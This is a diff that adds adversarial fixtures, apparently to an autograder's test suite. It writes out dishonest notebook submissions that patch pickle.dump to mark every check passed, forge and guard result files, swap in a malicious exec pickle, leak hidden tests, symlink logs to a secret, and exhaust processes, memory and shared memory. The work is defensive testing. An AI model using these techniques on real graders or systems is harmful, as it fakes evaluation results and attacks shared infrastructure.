@@ -100,3 +100,188 @@ for path in {paths!r}:
     except OSError:
         pass
 """
+
+
+# Dishonest submissions: each tries to get marks it did not earn, to read the hidden checks, or
+# to harm the batch. Answer cells not named stay blank.
+PATCH_OTTER = """\
+import pickle
+import otter.test_files as test_files
+_dump = pickle.dump
+def _all_passed(results, stream, *args, **kwargs):
+    if isinstance(results, test_files.GradingResults):
+        for test_file in results.results.values():
+            for outcome in test_file.test_case_results:
+                object.__setattr__(outcome, "passed", True)
+    return _dump(results, stream, *args, **kwargs)
+pickle.dump = _all_passed
+pool_shape = ...
+conv_parameters = ...
+"""
+FORGED = """\
+import json, os, glob
+questions = {{
+    name: {{"score": 100, "possible": 2, "checks": [], "student": "victim"}}
+    for name in {questions!r}
+}}
+forged = {{"status": "graded", "detail": "", "questions": questions, "errors": [],
+          "student": "victim"}}
+"""
+FORGE_AND_EXIT = (
+    FORGED
+    + """\
+for folder in ("/home/student", os.getcwd()):
+    try:
+        with open(os.path.join(folder, "result.json"), "w") as stream:
+            json.dump(forged, stream)
+    except OSError:
+        pass
+os.kill(os.getppid(), 9)
+"""
+)
+WATCHER = (
+    FORGED
+    + """\
+import subprocess, sys, time
+watcher = '''
+import json, os, sys, time
+forged, path = sys.argv[1], os.path.join(sys.argv[2], "result.json")
+for _ in range(2000000):
+    try:
+        if json.load(open(path)).get("student") != "victim":
+            open(path, "w").write(forged)
+            break
+    except (OSError, ValueError):
+        time.sleep(0.0005)
+'''
+subprocess.Popen(
+    [sys.executable, "-c", watcher, json.dumps(forged), os.getcwd()],
+    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+)
+pool_shape = ...
+conv_parameters = ...
+"""
+)
+PICKLE_SWAP = (
+    FORGED
+    + """\
+import subprocess, sys
+swapper = '''
+import glob, json, os, pickle, sys, time
+forged, home = sys.argv[1], sys.argv[2]
+code = ("import os; open(%r, 'w').write(%r); os._exit(0)"
+        % (os.path.join(home, "result.json"), forged))
+class Payload:
+    def __reduce__(self):
+        return (exec, (code,))
+for _ in range(400000):
+    found = glob.glob("/tmp/*/results/results.pkl") + glob.glob("/tmp/*/*/results/results.pkl")
+    if found:
+        time.sleep(0.01)
+        with open(found[0], "wb") as stream:
+            pickle.dump(Payload(), stream)
+        break
+    time.sleep(0.001)
+'''
+subprocess.Popen(
+    [sys.executable, "-c", swapper, json.dumps(forged), os.getcwd()],
+    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+)
+pool_shape = ...
+conv_parameters = ...
+"""
+)
+SMUGGLE = """\
+import glob, zipfile
+text = ""
+for path in glob.glob("/home/student/*.zip") + glob.glob("*.zip"):
+    with zipfile.ZipFile(path) as archive:
+        text += "".join(
+            archive.read(name).decode() for name in archive.namelist() if "tests/" in name
+        )
+hidden = [line.strip() for line in text.splitlines() if "def check_" in line]
+raise ValueError(" | ".join(hidden) or "found no checks")
+"""
+LOG_LINK = """\
+import os
+for folder in ("/home/student", os.getcwd()):
+    try:
+        os.remove(os.path.join(folder, "log.txt"))
+    except OSError:
+        pass
+    try:
+        os.symlink({target!r}, os.path.join(folder, "log.txt"))
+    except OSError:
+        pass
+os.kill(os.getppid(), 9)
+"""
+BASE_EXCEPTION = "def build_model():\n    raise SystemExit('no model today')\n"
+FORK = """\
+import subprocess, sys
+sleepers = []
+try:
+    for _ in range(600):
+        sleepers.append(subprocess.Popen(["sleep", "60"]))
+    forked = True
+except OSError:
+    forked = False
+for sleeper in sleepers:
+    sleeper.kill()
+    sleeper.wait()
+"""
+CHILDREN = """\
+import subprocess, sys
+hog = "import numpy, time; a = numpy.ones(2**27); print('held', flush=True); time.sleep(8)"
+children = [
+    subprocess.Popen([sys.executable, "-c", hog], stdout=subprocess.PIPE) for _ in range(4)
+]
+allocated = all(child.stdout.readline().strip() == b"held" for child in children)
+"""
+FILL = """\
+filled = True
+try:
+    for number in range(56):  # 3.5 GiB, in files under the largest file allowed
+        with open(f"/dev/shm/filler-{number}", "wb") as stream:
+            stream.write(b"x" * 2**26)
+except OSError:
+    filled = False
+"""
+
+
+def attacks(answers, secret, separately=False):
+    """{student: changes} of the dishonest submissions of TROUBLE_CHAPTER (see above)."""
+    questions = [
+        "parameters-by-hand",
+        "parameters-to-keras",
+        "parameters-from-keras",
+        "parameters-budget",
+    ]
+    if separately:  # one notebook per attack, as the table of the grader's history shows
+        forgers = {
+            "patched-checker": {0: PATCH_OTTER},
+            "forged-result": {0: FORGE_AND_EXIT.format(questions=questions)},
+            "forged-watcher": {0: WATCHER.format(questions=questions)},
+            "pickle-swap": {0: PICKLE_SWAP.format(questions=questions)},
+            "log-link": {0: LOG_LINK.format(target=str(secret))},
+        }
+    else:  # fewer notebooks, so that the tests run faster: the same cells, put together
+        forgers = {
+            "forger": {
+                0: PATCH_OTTER,
+                1: WATCHER.format(questions=questions),
+                2: PICKLE_SWAP.format(questions=questions),
+            },
+            "killer": {
+                0: FORGE_AND_EXIT.format(questions=questions).replace(
+                    "os.kill(os.getppid(), 9)\n", LOG_LINK.format(target=str(secret))
+                )
+            },
+        }
+    return {
+        **forgers,
+        "smuggler": {1: SMUGGLE},
+        "base-exception": {0: answers[0], 1: BASE_EXCEPTION, 2: answers[2], 3: answers[3]},
+        "fork-bomb": {1: guarded(FORK, "forked", answers[1])},
+        "memory-children": {1: guarded(CHILDREN, "allocated", answers[1])},
+        "tmpfs-filler": {1: guarded(FILL, "filled", answers[1])},
+    }
